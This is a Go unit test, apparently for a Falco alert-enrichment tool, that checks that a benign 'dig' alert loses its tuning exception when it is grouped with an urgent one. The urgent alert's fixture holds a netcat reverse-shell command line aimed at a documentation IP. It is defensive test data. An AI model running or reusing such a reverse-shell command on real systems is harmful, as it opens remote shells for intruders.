package incident_test

import (
	"strings"
	"testing"
	"time"

	pb "github.com/falco-reporter/falco-reporter/gen/go/falcoreporter/v1"
	"github.com/falco-reporter/falco-reporter/internal/alert"
	"github.com/falco-reporter/falco-reporter/internal/enrich/incident"
)

// TestNoExceptionForPartOfAnAttack: what an alert that is only for the record would except is not
// told once its incident is urgent.
func TestNoExceptionForPartOfAnAttack(t *testing.T) {
	calm := made(t, 0, "Launch Suspicious Network Tool on Host", "Notice", fields(process(100, 50, "dig", "bash"), "evt.type", "execve", "fd.name", nil))
	urgent := made(t, time.Second, "Launch Suspicious Network Tool on Host", "Notice", fields(process(101, 50, "nc", "bash"),
		"evt.type", "execve", "fd.name", nil, "proc.cmdline", "nc -e /bin/sh 203.0.113.9 4444"))
	excepted := func(alerts ...*alert.Alert) (string, pb.UrgencyLevel) {
		all := ""
		last := final(t, joined(t, incident.Options{}, alerts))
		for _, a := range last[0].GetActions() {
			if a.GetPhase() == pb.Phase_PHASE_TUNE {
				all += a.GetSnippet()
			}
		}
		if len(last) != 1 {
			t.Fatalf("%d reports", len(last))
		}
		return all, last[0].GetUrgency().GetLevel()
	}
	const own = `proc.cmdline = "dig --quiet run"`
	if got, level := excepted(calm); level != pb.UrgencyLevel_URGENCY_LEVEL_RECORD || !strings.Contains(got, own) {
		t.Errorf("alone, %s: %s", level, got)
	}
	if got, level := excepted(calm, urgent); level == pb.UrgencyLevel_URGENCY_LEVEL_RECORD || strings.Contains(got, own) {
		t.Errorf("together, %s: %s", level, got)
	}
}
